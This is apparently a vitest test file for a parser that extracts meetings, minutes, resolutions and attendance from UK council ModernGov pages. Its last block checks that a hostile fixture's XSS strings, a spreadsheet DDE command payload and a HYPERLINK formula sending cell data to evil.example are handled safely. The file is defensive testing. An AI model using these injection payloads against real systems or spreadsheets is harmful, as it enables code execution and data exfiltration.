import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { completeTruncated, type FetchDocument } from '@/lib/moderngov/completeTruncated';
import { extractPage } from '@/lib/moderngov/extract';
import { ExtractionSchema, type Extraction, type PageRecord } from '@/lib/moderngov/schema';
import { ownFixture, ownFixturesDir } from '../../support/pages';

/** Each page's address, as written in its top comment (tests/fixtures/README.md). */
const PAGES: Record<string, { url: string; kind: PageRecord['kind'] | null }> = {
  'southampton-meeting-2016-11-03.html': { url: 'https://www.southampton.gov.uk/modernGov/ieListDocuments.aspx?CId=600&MId=7105&Ver=4', kind: 'meeting' },
  'worcestershire-meeting-2015-05-22.html': { url: 'https://worcestershire.moderngov.co.uk/ieListDocuments.aspx?CId=147&MId=2453&Ver=4', kind: 'meeting' },
  'worcestershire-item-5-2015-05-22.html': { url: 'https://worcestershire.moderngov.co.uk/mgAi.aspx?ID=9876', kind: 'item' },
  'surrey-decisions-and-minutes-2021.html': { url: 'https://mycouncil.surreycc.gov.uk/ieListDocuments.aspx?CId=120&MId=7970&Ver=4', kind: 'meeting' },
  'anglesey-meeting-welsh-2014-10-09.html': { url: 'https://democratiaeth.ynysmon.llyw.cymru/ieListDocuments.aspx?CId=128&MId=1234&Ver=4&LLL=1', kind: 'meeting' },
  'cityoflondon-meeting-subitems-2020.html': {
    url: 'https://democracy.cityoflondon.gov.uk/modernGov/(S(30n4owbuda0mqe55vsynzn55))/ieListDocuments.aspx?CId=174&MID=14000&Ver=4',
    kind: 'meeting',
  },
  'gloucester-agenda-only-2025-11-21.html': { url: 'https://democracy.gloucester.gov.uk/ieListDocuments.aspx?CId=129&MId=7600&Ver=4', kind: 'meeting' },
  'southampton-attendance-2016-11-03.html': { url: 'https://www.southampton.gov.uk/modernGov/mgMeetingAttendance.aspx?ID=7105', kind: 'attendance' },
  'southampton-committee-meetings.html': { url: 'https://www.southampton.gov.uk/modernGov/ieListMeetings.aspx?CId=600&Year=0', kind: 'meeting-list' },
  'issue-history-2016.html': { url: 'https://www.southampton.gov.uk/modernGov/mgIssueHistoryHome.aspx?IId=21466&Opt=0', kind: 'issue' },
  'not-moderngov-council-news.html': { url: 'https://www.examplecouncil.gov.uk/news/council-meetings-this-week', kind: null },
  'meeting-no-items.html': { url: 'https://democracy.example-council.gov.uk/ieListDocuments.aspx?CId=1&MId=2&Ver=4', kind: 'meeting' },
  'hostile-meeting.html': { url: 'https://democracy.hostile.example/ieListDocuments.aspx?CId=9&MId=666&Ver=4', kind: 'meeting' },
};

function read(name: string): Extraction {
  const page = PAGES[name];
  if (!page) throw new Error(`no address for ${name}`);
  const result = extractPage(ownFixture(name), page.url);
  expect(ExtractionSchema.parse(result)).toEqual(result);
  return result;
}

function as<K extends PageRecord['kind']>(name: string, kind: K): Extract<PageRecord, { kind: K }> {
  const result = read(name);
  if (result.kind !== kind) throw new Error(`${name} read as ${String(result.kind)}: ${JSON.stringify(result).slice(0, 300)}`);
  return result as Extract<PageRecord, { kind: K }>;
}

describe('own fixture pages', () => {
  it('lists every page in tests/fixtures', () => {
    expect(readdirSync(ownFixturesDir).filter((f) => f.endsWith('.html')).sort()).toEqual(Object.keys(PAGES).sort());
  });

  it.each(Object.entries(PAGES))('%s is recognised as its kind', (name, { kind }) => {
    expect(read(name).kind).toBe(kind);
  });

  it('still recognises a meeting page by its markup alone (a saved file, no address)', () => {
    const result = extractPage(ownFixture('southampton-meeting-2016-11-03.html'), 'file:///home/researcher/saved.html');
    expect(result.kind === 'meeting' && result.items.length).toBe(4);
  });
});

describe('Worcestershire, 22 May 2015 (seed 002)', () => {
  const record = as('worcestershire-meeting-2015-05-22.html', 'meeting');

  it('reads the header and six items', () => {
    expect(record.council).toEqual({ host: 'worcestershire.moderngov.co.uk', name: 'Worcestershire County Council' });
    expect(record.committee).toEqual({ id: '147', name: 'Children and Families Overview and Scrutiny Panel' });
    expect(record.meeting).toMatchObject({ date: '2015-05-22', time: '10.00 am', venue: 'County Hall, Worcester' });
    expect(record.meeting.contact).toBe('Alyson Grice/Samantha Morris (01905 766619) Overview & Scrutiny Officers');
    expect(record.items.map((i) => [i.number, i.title])).toEqual([
      ['1', 'Apologies and Welcome'],
      ['2', 'Declaration of Interest and of any Party Whip'],
      ['3', 'Public Participation'],
      ['4', 'Confirmation of the Minutes of the Previous Meeting'],
      ['5', 'Child Sexual Exploitation: Update'],
      ['6', 'Missing Children and Young People: Update'],
    ]);
  });

  it('takes apologies and declarations from their items', () => {
    expect(record.apologies?.split('\n')[0]).toBe('Apologies were received from Rachel Jenkins and Charmian Richardson.');
    expect(record.declarations).toBe('Councillor Lynne Duffy declared an interest as a member of Warwickshire and West Mercia Police Joint Audit Committee.');
    expect(record.items[2]?.minutes).toBe('None.');
    expect(record.items[3]?.description).toBe('(previously circulated)');
  });

  it('marks item 5 as cut short, with the link to its full text, and no clauses from the a)–d) list', () => {
    const item5 = record.items[4];
    expect(item5?.minutesTruncated).toBe(true);
    expect(item5?.fullMinutesUrl).toBe('https://worcestershire.moderngov.co.uk/mgAi.aspx?ID=9876');
    expect(item5?.minutes.endsWith('A Member referred to a recent incident in a Kidderminster')).toBe(true);
    expect(item5?.minutes).toContain('a) Prevention and Education;\nb) Recognition and Identification;');
    expect(item5?.clauses).toEqual([]);
    expect(record.warnings).toEqual(['Minutes are cut short on the page for item 5.']);
  });

  it('reads item 6: nine points made, no resolution', () => {
    const item6 = record.items[5];
    expect(item6?.notedPoints).toHaveLength(9);
    expect(item6?.notedPoints[0]).toBe(
      'The report referred to the National Youth Advocacy Service (NYAS) which, since April 2015, had been undertaking return interviews for children who were reported missing in the County. It was confirmed that after the contract had been running for 6 months, a report would be prepared for the WSCB, followed by annual reports thereafter.',
    );
    expect(item6?.notedPoints[8]).toBe(
      'It was suggested that it would be useful for the Corporate Parenting Board to be aware of the type of data analysis included in the monthly report. The Cabinet Member confirmed that he was currently reviewing how the impact of the Corporate Parenting Board was measured and he would consider this as part of that review.',
    );
    expect(item6?.clauses).toEqual([]);
  });

  it('completes item 5 from its item page', async () => {
    const fetched: string[] = [];
    const fetchDocument: FetchDocument = async (url) => {
      fetched.push(url);
      return ownFixture('worcestershire-item-5-2015-05-22.html');
    };
    const { meeting, failures } = await completeTruncated(record, fetchDocument);
    expect(fetched).toEqual(['https://worcestershire.moderngov.co.uk/mgAi.aspx?ID=9876']);
    expect(failures).toEqual([]);
    const item5 = meeting.items[4];
    expect(item5?.minutesTruncated).toBe(false);
    expect(item5?.minutes).toContain('A Member referred to a recent incident in a Kidderminster school which had been reported in the local press.');
    expect(item5?.notedPoints).toHaveLength(4);
    expect(item5?.clauses).toEqual([{ label: null, text: 'that the update be noted.', keyword: 'RESOLVED', section: 'minutes', exempt: false }]);
    expect(item5?.documents.map((d) => d.sizeKb)).toEqual([142, 356, 1024]);
    expect(meeting.warnings).toEqual([]);
    expect(meeting.contentHash).not.toBe(record.contentHash);
    // The other items are untouched.
    expect(meeting.items.filter((_, i) => i !== 4)).toEqual(record.items.filter((_, i) => i !== 4));
  });

  it('keeps the cut text and reports the failure when the item page cannot be fetched', async () => {
    const { meeting, failures } = await completeTruncated(record, async () => {
      throw new Error("The council's site answered 503");
    });
    expect(failures).toEqual([{ itemNumber: '5', url: 'https://worcestershire.moderngov.co.uk/mgAi.aspx?ID=9876', reason: "The council's site answered 503" }]);
    expect(meeting.items[4]).toEqual(record.items[4]);
    expect(meeting.warnings).toEqual(['Minutes are cut short on the page for item 5.']);
  });

  it('never follows a full-text link to another site', async () => {
    const elsewhere = { ...record, items: record.items.map((i) => (i.minutesTruncated ? { ...i, fullMinutesUrl: 'https://evil.example/mgAi.aspx?ID=1' } : i)) };
    let called = false;
    const { failures } = await completeTruncated(elsewhere, async () => {
      called = true;
      return ownFixture('worcestershire-item-5-2015-05-22.html');
    });
    expect(called).toBe(false);
    expect(failures[0]?.reason).toMatch(/another site/);
  });
});

describe('the Worcestershire item page (mgAi.aspx)', () => {
  it('reads the item, its meeting and its full minutes', () => {
    const page = as('worcestershire-item-5-2015-05-22.html', 'item');
    expect(page.meetingRef).toEqual({
      meetingId: '2453',
      committeeId: '147',
      committeeName: 'Children and Families Overview and Scrutiny Panel',
      date: '2015-05-22',
      url: 'https://worcestershire.moderngov.co.uk/ieListDocuments.aspx?CId=147&MId=2453',
    });
    expect([page.item.number, page.item.id, page.item.title]).toEqual(['5', '9876', 'Child Sexual Exploitation: Update']);
    expect(page.item.clauses).toEqual([{ label: null, text: 'that the update be noted.', keyword: 'RESOLVED', section: 'minutes', exempt: false }]);
  });
});

describe('Surrey, "Agenda, decisions and minutes"', () => {
  const record = as('surrey-decisions-and-minutes-2021.html', 'meeting');

  it('reads year-qualified numbers', () => {
    expect(record.meeting.title).toBe('Agenda, decisions and minutes');
    expect(record.committee.name).toBe('Cabinet');
    expect(record.meeting.date).toBe('2021-09-28');
    expect(record.items.map((i) => i.number)).toEqual(['77/21', '78/21', '79/21']);
  });

  it('takes a resolution printed under both "Decision:" and "Minutes:" once, and stops at "Reasons for Decisions:"', () => {
    const item = record.items[1];
    expect(item?.decision.startsWith('RESOLVED:')).toBe(true);
    expect(item?.clauses).toEqual([
      { label: '1.', keyword: 'RESOLVED', text: 'That the outcome of the review of the mobile library service, as set out in the report, be noted.', section: 'decision', exempt: false },
      {
        label: '2.',
        keyword: 'RESOLVED',
        text: 'That the community outreach model set out in paragraphs 12 to 18 of the report be approved, to replace the current mobile library timetable from 1 April 2022.',
        section: 'decision',
        exempt: false,
      },
      {
        label: '3.',
        keyword: 'RESOLVED',
        text: 'That authority be delegated to the Director of Cultural Services, in consultation with the Cabinet Member for Communities, to agree the final stopping points and the implementation timetable.',
        section: 'decision',
        exempt: false,
      },
    ]);
    expect(item?.description).not.toContain('View the decision');
  });

  it('lists a withheld document without a link', () => {
    const item = record.items[2];
    expect(item?.documents).toEqual([{ title: 'Restricted enclosure', url: null, restricted: true }]);
    expect(item?.clauses.map((c) => c.text)).toEqual([
      'That under Section 100(A) of the Local Government Act 1972, the public be excluded from the meeting for the following item of business on the grounds that it involves the likely disclosure of exempt information under paragraph 3 of Part 1 of Schedule 12A of the Act.',
    ]);
  });
});

describe('Anglesey, a Welsh page', () => {
  it('reads Welsh labels, dates and PENDERFYNWYD clauses', () => {
    const record = as('anglesey-meeting-welsh-2014-10-09.html', 'meeting');
    expect(record.meeting).toMatchObject({ title: 'Rhaglen a chofnodion', date: '2014-10-09', time: "2.00 o'r gloch", venue: 'Siambr y Cyngor, Swyddfeydd y Cyngor, Llangefni' });
    expect(record.committee.name).toBe('Cyngor Sir Ynys Môn');
    expect(record.items.map((i) => i.number)).toEqual(['1', '2', '3']);
    expect(record.items[2]?.clauses).toEqual([
      { label: '(a)', keyword: 'PENDERFYNWYD', text: 'Nodi’r cynnydd a wnaed yn erbyn y Cynllun Corfforaethol;', section: 'minutes', exempt: false },
      { label: '(b)', keyword: 'PENDERFYNWYD', text: 'Cymeradwyo’r blaenoriaethau ar gyfer 2015/16 fel y’u nodwyd yn yr adroddiad.', section: 'minutes', exempt: false },
    ]);
    expect(record.items[2]?.documents.map((d) => d.title)).toEqual(['Cynllun Corfforaethol 2013-2017: Adroddiad Cynnydd', 'Atodiad A - Crynodeb o’r Cynnydd']);
  });
});

describe('City of London: session address, sub-items, unnumbered row, leaked markers', () => {
  const record = as('cityoflondon-meeting-subitems-2020.html', 'meeting');

  it('stores the address without the session segment and reads MID in capitals', () => {
    expect(record.meeting.url).toBe('https://democracy.cityoflondon.gov.uk/modernGov/ieListDocuments.aspx?CId=174&MID=14000&Ver=4');
    expect(record.meeting.id).toBe('14000');
  });

  it('keeps sub-items as items of their own and the unnumbered row', () => {
    expect(record.items.map((i) => i.number)).toEqual(['1', '2', '3', '3a', '3b', '3c', '4', '5', null]);
    expect(record.items[2]).toMatchObject({ title: 'Minutes', minutes: '', description: '' });
    expect(record.items[8]?.title).toBe('Any other business');
  });

  it('drops leaked <AIn> markers from the text', () => {
    expect(record.items[3]?.minutes).toBe('1. a) The public minutes of the meeting held on 3 March were approved.');
    expect(record.items.some((i) => /<\/?AI\d/.test(i.minutes))).toBe(false);
  });

  it('reads "RESOLVED –" and AGREED followed by bullets', () => {
    expect(record.items[6]?.clauses).toEqual([{ label: null, keyword: 'RESOLVED', text: 'That the report be received.', section: 'minutes', exempt: false }]);
    expect(record.items[7]?.clauses.map((c) => [c.keyword, c.label, c.text])).toEqual([
      ['AGREED', null, 'the balances remaining in the Committee’s contingencies for 2019/20 be noted;'],
      ['AGREED', null, 'the sum of £50,000 be released from the Policy Initiatives Fund to the Committee Contingency; and'],
      ['AGREED', null, 'the Chamberlain review the criteria for contingency bids before the next financial year.'],
    ]);
  });
});

describe('pages without minutes or items', () => {
  it('reads an agenda published before its minutes', () => {
    const record = as('gloucester-agenda-only-2025-11-21.html', 'meeting');
    expect(record.meeting.title).toBe('Agenda');
    expect(record.items.map((i) => i.title)).toEqual(['Apologies', 'Declarations of Interest', 'Public Question Time (15 minutes)', 'Fees and Charges 2026/27']);
    expect(record.items.every((i) => i.minutes === '' && i.clauses.length === 0)).toBe(true);
    expect(record.items[2]?.agendaTruncated).toBe(true);
    expect(record.items[2]?.documents[0]).toMatchObject({ title: 'Cabinet - Public Questions', url: 'https://democracy.gloucester.gov.uk/mgConvert2PDF.aspx?ID=65461' });
  });

  it('says a meeting page lists no items', () => {
    const record = as('meeting-no-items.html', 'meeting');
    expect(record.items).toEqual([]);
    expect(record.warnings).toEqual(['The items table lists no items.']);
  });

  it('does not take a council news page for ModernGov, and says why', () => {
    const result = read('not-moderngov-council-news.html');
    expect(result).toEqual({ kind: null, reason: 'Not a ModernGov page: neither the address nor the content is from a ModernGov committee site.' });
  });
});

describe('other ModernGov pages', () => {
  it('reads the attendance table', () => {
    const page = as('southampton-attendance-2016-11-03.html', 'attendance');
    expect(page.meetingId).toBe('7105');
    expect(page.attendees.map((a) => [a.name, a.role, a.attendance])).toEqual([
      ['Councillor A Whitcombe', 'Chair', 'Present'],
      ['Councillor R Okafor', 'Committee Member', 'Present'],
      ['Councillor J Pennington', 'Committee Member', 'Apologies'],
      ['Councillor S Latham', 'Committee Member', 'Present'],
      ['Councillor M Dunmore', 'Committee Member', 'Present'],
    ]);
  });

  it("reads a committee's meeting list, cancelled meeting included", () => {
    const list = as('southampton-committee-meetings.html', 'meeting-list');
    expect(list.committee).toEqual({ id: '600', name: 'Children and Families Scrutiny Panel' });
    expect(list.meetings.map((m) => m.meetingId)).toEqual(['7109', '7108', '7107', '7106', '7105', '7104']);
    expect(list.meetings.find((m) => m.meetingId === '7105')).toMatchObject({ date: '2016-11-03', label: '3 Nov 2016 5.30 pm', status: null });
    expect(list.meetings.filter((m) => m.status === 'cancelled').map((m) => m.meetingId)).toEqual(['7107']);
  });

  it("reads an issue's history", () => {
    const issue = as('issue-history-2016.html', 'issue');
    expect(issue.title).toBe('Child Sexual Exploitation in Southampton - Update');
    expect(issue.details).toMatchObject({ 'Decision type': 'Non-key', 'Decision status': 'Recommendations Approved' });
    expect(issue.meetings.map((m) => [m.meetingId, m.date])).toEqual([
      ['7105', '2016-11-03'],
      ['6891', '2015-10-22'],
    ]);
  });
});

describe('a page with hostile text', () => {
  const record = as('hostile-meeting.html', 'meeting');

  it('keeps markup in the text as text, and drops script and image elements', () => {
    expect(record.committee.name).toBe('Cabinet <img src=x onerror="window.__pwned=1">');
    expect(record.meeting.venue).toBe('<script>window.__pwned=1</script>Town Hall');
    expect(record.items[0]?.minutes).not.toContain('__pwnedByPage');
    expect(record.items[0]?.clauses.map((c) => [c.label, c.text])).toEqual([
      ['(i)', "=cmd|' /C calc'!A0"],
      ['(ii)', '+SUM(1,2) and @SUM(A1) and -1+1'],
      ['(iii)', '<a href="javascript:window.__pwned=1">a link</a> that the report be noted.'],
    ]);
  });

  it('never keeps a link to a javascript: or data: address', () => {
    const item = record.items[0];
    expect(item?.title).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(item?.documents).toEqual([
      { title: 'Appendix A', url: null },
      { title: 'Appendix B', url: 'https://democracy.hostile.example/documents/s1/Appendix%20B.pdf' },
    ]);
  });
});
